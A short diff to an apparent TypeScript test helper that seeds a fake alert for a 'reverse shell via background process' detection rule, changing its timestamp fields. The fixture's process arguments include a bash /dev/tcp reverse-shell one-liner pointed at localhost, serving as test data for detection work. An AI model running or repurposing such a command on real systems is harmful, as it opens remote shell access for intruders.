@@ -34,7 +34,7 @@ function seedAlert(marker: string, eventTime: number, ruleId = SEED_RULE_ID): Re
     '@timestamp': new Date(eventTime + 50).toISOString(),
     rule: { id: ruleId, name: 'Potential Reverse Shell via Background Process' },
     process: { name: 'setsid', args: ['setsid', 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/1 0>&1 #${marker}`] },
-    kibana: { alert: { original_time: new Date(eventTime).toISOString() } },
+    event: { kind: 'alert', end: new Date(eventTime).toISOString() },
   };
 }
 
